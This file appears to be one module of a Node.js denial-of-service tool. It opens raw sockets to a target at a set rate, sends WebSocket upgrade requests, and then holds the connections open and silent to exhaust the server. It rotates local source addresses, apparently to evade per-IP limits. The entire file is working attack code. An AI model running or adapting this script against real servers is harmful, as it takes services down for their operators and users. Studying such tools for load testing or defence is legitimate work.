// Opens WebSockets without end: some are never finished, some are held open and silent.
import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import { anAddress, count, inFullSwing, settings, target } from './attack.mjs';

const rate = settings.rate ?? 300;
const path = settings.path ?? '/';
/** @type {import('node:net').Socket[]} */
const held = [];
let begun = 0;
const start = performance.now();

function openOne() {
  const socket = connect({ host: target.hostname, port: Number(target.port), localAddress: anAddress() });
  const key = randomBytes(16).toString('base64');
  const cookie = settings.cookie ? `Cookie: ${settings.cookie}\r\n` : '';
  socket.write(
    `GET ${path} HTTP/1.1\r\nHost: ${target.host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n${cookie}Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${key}\r\n\r\n`,
  );
  socket.once('data', (chunk) => count(String(chunk).slice(9, 12)));
  socket.on('error', () => {});
  socket.on('close', () => count('closed'));
  socket.resume();
  held.push(socket);
  if (held.length > 2_000) held.shift()?.destroy();
}

setInterval(() => {
  for (const due = ((performance.now() - start) / 1000) * rate; begun < due; begun++) openOne();
  if (begun > rate / 2) inFullSwing();
}, 10);
